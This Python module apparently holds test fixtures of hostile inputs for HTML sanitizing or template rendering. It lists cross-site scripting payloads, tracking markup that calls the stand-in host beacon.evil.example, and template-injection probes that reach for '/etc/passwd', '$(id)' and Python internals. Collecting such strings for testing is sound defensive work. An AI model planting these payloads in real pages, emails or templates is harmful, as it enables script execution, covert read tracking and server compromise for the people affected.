"""What attackers write where a name, a subject, a file name or a page is expected."""

from __future__ import annotations

HOST = "beacon.evil.example"
URL = f"http://{HOST}/p"

# Pages that would run something.
ACTIVE = (
    "<script>alert(1)</script>", "<SCRIPT SRC=//beacon.evil.example/x.js></SCRIPT>", "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<body onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>", "<a href=javascript:alert(1)>x</a>", "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='jav&#x0A;ascript:alert(1)'>x</a>", "<a href='data:text/html,<script>1</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>", "<form action=javascript:alert(1)><input type=submit></form>",
    "<button formaction=javascript:alert(1)>x</button>", "<details open ontoggle=alert(1)>", "<marquee onstart=alert(1)>",
    "<video><source onerror=alert(1)></video>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mi//xlink:href='data:x,<script>alert(4)</script>'>", "<noscript><p title='</noscript><img src=x onerror=1>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>", "<template><script>alert(1)</script></template>",
    "<select><style></select><img src=x onerror=alert(1)></style>", "<title><img src=x onerror=alert(1)></title>",
    "<textarea><script>alert(1)</script>", "<!--><script>alert(1)</script>-->", "<![CDATA[<script>alert(1)</script>]]>",
    "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->", "<!--[if mso]><v:rect href=javascript:alert(1)><![endif]-->",
    "<xml><o:x onclick=alert(1)></xml>", "<isindex type=image src=1 onerror=alert(1)>", "<b onmouseover=alert(1)>x</b>",
    "<style>*{behavior:url(#x)}</style>", "<div style='width:expression(alert(1))'>x</div>", "<input autofocus onfocus=1>",
    "<keygen autofocus onfocus=1>", "\"><script>alert(1)</script>", "'><img src=x onerror=alert(1)>", "</title><script>1</script>",
    "<<script>alert(1)//<</script>", "<scr<script>ipt>alert(1)</script>", "<img/src=x/onerror=alert(1)>", "<%00script>alert(1)</script>",
)  # fmt: skip

# Pages that would tell somebody that they were read.
BEACONS = (
    f"<img src={URL}>", f"<IMG SRC='{URL}'>", f"<img srcset='{URL} 2x'>", f"<link rel=stylesheet href={URL}>",
    f"<style>@import url({URL})</style>", f"<style>body{{background:url({URL})}}</style>", f"<p style='background:url({URL})'>x",
    f"<table background={URL}><tr><td>x", f"<td background={URL}>x", f"<base href={URL}>", f"<meta http-equiv=refresh content='0;url={URL}'>",
    f"<iframe src={URL}></iframe>", f"<object data={URL}></object>", f"<embed src={URL}>", f"<video poster={URL} src={URL}></video>",
    f"<audio src={URL} autoplay></audio>", f"<input type=image src={URL}>", f"<svg><image href={URL} /></svg>",
    f"<svg><use href={URL}#a /></svg>", f"<form action={URL}><input name=a></form>", f"<bgsound src={URL}>", f"<body background={URL}>",
    f"<frameset><frame src={URL}></frameset>", f"<link rel=dns-prefetch href=//{HOST}>", f"<v:fill src={URL} />",
    f"<img src='cid:x' lowsrc={URL} dynsrc={URL}>", f"<picture><source srcset={URL}><img></picture>", f"<script src={URL}></script>",
)  # fmt: skip

TEMPLATES = (
    "{{7*7}}", "{{ 7*7 }}", "{% include '/etc/passwd' %}", "{%raw%}x{%endraw%}", "{# comment #}", "${7*7}", "#{7*7}", "%s%n%x",
    "%(number)s", "{number}", "{0}", "{0.__class__}", "{{ ''.__class__.__mro__ }}", "{{ config }}", "{{ self }}",
    "{% for x in range(9) %}x{% endfor %}", "{{ cycler.__init__.__globals__ }}", "<%= 7*7 %>", "[[${7*7}]]", "$(id)", "`id`",
    "{{ signature }}", "{{'a'*2000000000}}", "{%", "}}", "{{", "%", "{", "}", "\\{{7*7}}",
)  # fmt: skip
